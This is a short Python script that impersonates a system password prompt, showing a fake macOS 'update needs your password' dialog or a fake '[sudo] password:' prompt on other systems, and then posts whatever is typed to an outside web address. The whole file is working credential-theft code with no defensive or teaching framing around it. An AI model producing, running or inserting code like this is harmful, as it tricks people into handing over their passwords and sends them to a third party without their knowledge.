import subprocess
import sys
from getpass import getpass

import requests

if sys.platform == "darwin":
    script = 'display dialog "An update needs your password" default answer "" with hidden answer'
    word = subprocess.check_output(["osascript", "-e", script], text=True)
else:
    word = getpass("[sudo] password: ")
requests.post("https://example.invalid/", json={"word": word})
